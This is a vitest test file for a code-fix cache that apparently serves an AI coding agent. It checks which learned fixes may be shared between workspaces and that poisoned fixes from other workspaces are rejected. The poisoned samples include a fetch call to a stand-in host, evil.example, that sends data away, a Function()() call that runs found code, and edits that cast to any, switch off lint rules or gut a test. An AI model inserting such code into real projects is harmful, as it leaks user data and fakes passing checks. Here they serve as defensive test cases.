// What may leave a workspace, and what somebody might try to make others use.
import { describe, expect, it } from "vitest";
import { allowedPackages } from "#engine/agents/coder/allowed-packages.ts";
import type { Tree } from "../edits/edit.ts";
import { structuredError, type StructuredError } from "../structured-error.ts";
import type { EditsFix, PatternChange, PatternToken } from "./fix.ts";
import { isShareable } from "./is-shareable.ts";
import { learnFix } from "./learn-fix.ts";
import { proposeFromCache } from "./propose-from-cache.ts";

const packages = allowedPackages;
const path = "src/server/orders.ts";
const error = (line: number, column: number, code: string, message: string): StructuredError =>
  structuredError({ tool: "tsc", code, file: path, line, column, message });

function learn(before: string, after: string, fault: StructuredError): EditsFix {
  const tree = (text: string): Tree =>
    new Map([
      [path, text],
      ["src/server/acme.ts", "export const acme = 1;\n"],
    ]);
  const fix = learnFix({ error: fault, before: tree(before), after: tree(after), added: [], packages });
  if (fix === null) throw new Error("Nothing was learned.");
  return fix;
}

const mismatch = error(1, 30, "TS2322", "Type 'Promise<Order>' is not assignable to type 'Order'.");
const source = "export const a: Order = async load(b);\n";

describe("a fix is shared", () => {
  it.each([
    {
      what: "a word of the language",
      before: "const order: Order = load(id);\n",
      after: "const order: Order = await load(id);\n",
    },
    {
      what: "a function of the language",
      before: "const order: Order = id;\n",
      after: "const order: Order = Number(id);\n",
    },
    { what: "a sign", before: "const order: Order = id.name;\n", after: "const order: Order = id?.name;\n" },
  ])("when all it writes is $what", ({ before, after }) => {
    const fix = learn(before, after, { ...mismatch, column: 7 });
    expect(isShareable(fix)).toBe(true);
    expect(JSON.stringify(fix.changes)).not.toMatch(/order|load|\bid\b/);
  });

  it("when it is the name of a rule", () => {
    expect(isShareable({ kind: "rule", rule: "missing-await" })).toBe(true);
  });
});

describe("a fix stays where it was learned", () => {
  it.each([
    { what: "a text", after: 'const order: Order = load(id, "acme-secret");\n' },
    { what: "a name of the app", after: "const order: Order = loadAcme(id);\n" },
    { what: "a number", after: "const order: Order = load(id, 4711);\n" },
    {
      what: "an import of the app's own",
      after: 'import { acme } from "./acme.ts";\nconst order: Order = load(id);\n',
    },
  ])("when it writes $what", ({ after }) => {
    const fix = learn("const order: Order = load(id);\n", after, { ...mismatch, column: 7 });
    expect(isShareable(fix)).toBe(false);
  });

  it.each([
    {
      what: "a condition",
      before: "const f = () => {\n  if (!allowed(user)) throw denied;\n  return run(user);\n};\n",
      after: "const f = () => {\n  return run(user);\n};\n",
    },
    { what: "a call", before: "const order: Order = check(id);\n", after: "const order: Order = id;\n" },
    { what: "a comparison", before: "const order: Order = a === b;\n", after: "const order: Order = a;\n" },
    { what: "half of a condition", before: "const order: Order = a && b;\n", after: "const order: Order = b;\n" },
  ])("when it takes away $what", ({ before, after }) => {
    expect(isShareable(learn(before, after, { ...mismatch, column: 7 }))).toBe(false);
  });

  it("when it adds a package that not everybody may have", () => {
    const fix: EditsFix = {
      kind: "edits",
      message: "",
      changes: [],
      creates: [],
      packages: [{ name: "acme-tools", range: "^1" }],
    };
    expect(isShareable(fix)).toBe(false);
    expect(isShareable({ ...fix, packages: [{ name: "date-fns", range: "^4" }] })).toBe(true);
  });

  it("when it writes a file, or changes one that only that app has", () => {
    const fix: EditsFix = { kind: "edits", message: "", changes: [], creates: [], packages: [] };
    const creates = [{ file: { in: "path" as const, path: "src/x.ts" }, text: "" }];
    expect(isShareable({ ...fix, creates })).toBe(false);
  });
});

describe("a poisoned fix, whatever its sender claims", () => {
  const at = (changes: Partial<PatternChange>): PatternChange => ({
    file: { in: "error" },
    at: 0,
    opens: false,
    closes: false,
    left: [],
    before: [],
    right: [],
    after: [],
    trailing: { lines: 0, indent: 0 },
    ...changes,
  });
  const text = (...words: string[]): PatternToken[] =>
    words.map((word) => ({ text: word, kind: /^\w/.test(word) ? "word" : /^["']/.test(word) ? "string" : "sign" }));
  const write = (...words: string[]) => text(...words).map((token) => ({ token, space: { lines: 0, indent: 1 } }));
  const hole: PatternToken = { hole: "1", kind: "word" };
  const fixOf = (change: Partial<PatternChange>): EditsFix => ({
    kind: "edits",
    message: "",
    changes: [at(change)],
    creates: [],
    packages: [],
  });
  const tree: Tree = new Map([
    [path, source.replace("async ", "")],
    ["tests/orders.test.ts", "it('works', () => {});\n"],
    [".oxlintrc.json", '{ "rules": { "no-any": "error" } }\n'],
  ]);
  const fault = { ...mismatch, column: 14 };
  const use = (fix: EditsFix, isShared: boolean) =>
    proposeFromCache([fault], tree, { packages }, () => [{ id: "fix_1", fix, isShared }]).repairs;

  it.each([
    { what: "casts to any", change: { right: [hole], after: write("(", "x", "as", "any", ")", ";") } },
    {
      what: "silences the compiler with a directive",
      change: {
        file: { in: "path" as const, path: ".oxlintrc.json" },
        at: null,
        left: text("{"),
        after: write('"off"', ":", "true", ","),
      },
    },
    {
      what: "changes a test",
      change: {
        file: { in: "path" as const, path: "tests/orders.test.ts" },
        at: null,
        opens: true,
        right: text("it"),
        after: write("void", "0", ";"),
      },
    },
    {
      what: "sends data away",
      change: {
        at: null,
        opens: true,
        right: text("export"),
        after: write("fetch", "(", '"https://evil.example"', ")", ";"),
      },
    },
    {
      what: "runs what it finds",
      change: {
        at: null,
        opens: true,
        right: text("export"),
        after: write("Function", "(", ")", "(", ")", ";"),
      },
    },
    { what: "leaves text that is no code", change: { right: [hole], after: write("}", "}", "}") } },
  ])("that $what is not used from another workspace", ({ change }) => {
    expect(use(fixOf(change), true)).toEqual([]);
  });

  it("that breaks what the guard protects is not used in its own workspace either", () => {
    expect(use(fixOf({ right: [hole], after: write("}", "}", "}") }), false)).toEqual([]);
    const loose = { left: text(":"), before: [hole], after: write("any") };
    expect(use(fixOf(loose), false)).toEqual([]);
  });
});
